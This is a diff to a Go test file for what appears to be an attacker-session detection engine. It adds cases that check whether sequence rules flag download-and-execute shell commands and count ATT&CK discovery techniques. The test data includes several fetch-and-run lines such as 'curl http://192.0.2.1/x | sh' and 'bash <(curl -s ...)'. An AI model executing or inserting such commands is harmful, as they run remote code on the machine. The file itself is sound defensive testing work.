@@ -201,6 +201,7 @@ func TestLineSequence(t *testing.T) {
 		{"chmod +x x; wget -O x http://192.0.2.1/", false},
 		{"wget -O x http://192.0.2.1/; chmod +x y", false},
 		{"wget -O x http://192.0.2.1/; wget -O y http://192.0.2.1/; chmod +x y", true},
+		{"echo $(wget -O x http://192.0.2.1/; chmod +x x)", true},
 	}
 	for _, tt := range tests {
 		tags := snap.Evaluate(nil, commandEvent(tt.line), testNow, NewScratch())
@@ -245,6 +246,58 @@ func TestSessionConditions(t *testing.T) {
 		ev.SetField(field, (&exampleReader{}).value(p.Match.Items[0]))
 		if got := len(NewSnapshot(rs, nil, testNow).Evaluate(nil, ev, testNow, NewScratch())) > 0; got != tt.want {
 			t.Errorf("%s on %s = %v, want %v", tt.match, tt.payload, got, tt.want)
+		}
+	}
+}
+
+// TestSequenceThroughPipes: what flows from a fetch into a shell is a file
+// between the two.
+func TestSequenceThroughPipes(t *testing.T) {
+	rs := compileRule(t, "command", "  sequence: {same: file, steps: [{effect: {fetches: any}}, {effect: {runs: any}}]}")
+	snap := NewSnapshot(rs, nil, testNow)
+	tests := []struct {
+		line string
+		want bool
+	}{
+		{"curl http://192.0.2.1/x | sh", true},
+		{"curl http://192.0.2.1/x | tee y | sudo bash -s a", true},
+		{`sh -c "$(curl -s http://192.0.2.1/x)"`, true},
+		{"bash <(curl -s http://192.0.2.1/x)", true},
+		{"curl http://192.0.2.1/x | cat; cat y | sh", false},
+		{"curl http://192.0.2.1/x; sh", false},
+		{"echo $(curl http://192.0.2.1/x); cat y | sh", false},
+	}
+	for _, tt := range tests {
+		if got := len(snap.Evaluate(nil, commandEvent(tt.line), testNow, NewScratch())) > 0; got != tt.want {
+			t.Errorf("%s = %v, want %v", tt.line, got, tt.want)
+		}
+	}
+}
+
+// TestTechniquesOfFannedOutCommands: a session event's own commands count, and
+// those of others do not.
+func TestTechniquesOfFannedOutCommands(t *testing.T) {
+	const head = "rule_id: %s\nrule_version: 1\nname: %s\ndescription: x\napplies_to: [%s]\nmatch: %s\nemits: [{tactic: TA0007, technique_id: %s, confidence: 0.7}]\n"
+	rule := func(id, kind, match, technique string) Source {
+		return Source{Name: id + ".yaml", Data: fmt.Appendf(nil, head, id, strings.ToLower(id), kind, match, technique)}
+	}
+	rs := mustCompile(t, []Source{
+		rule("R0001", "command", "{contains: uname}", "T1082"), rule("R0002", "command", "{contains: whoami}", "T1033"),
+		rule("R0003", "session", "{techniques: {tactic: TA0007, min: 2}}", "T1087"),
+	})
+	session := event.Event{SourceID: "s", AttackerUUID: "a", SessionID: event.Some("s")}
+	session.SetKind("session")
+	events := append([]event.Event{session}, sessionOf("s", "uname", "whoami")...)
+	for _, fanned := range []bool{true, false} {
+		snap, sc, stage := NewSnapshot(rs, nil, testNow), NewScratch(), NewStage()
+		var tags []event.Tag
+		for i := range events {
+			events[i].FannedOut = fanned && i > 0
+			tags = snap.Evaluate(tags, &events[i], testNow, sc)
+		}
+		tags = stage.Run(tags, sc.TakeSightings(nil))
+		if got := tags[0].RuleID == "R0003"; got != fanned {
+			t.Errorf("fanned out %v: the first tag is of %s", fanned, tags[0].RuleID)
 		}
 	}
 }
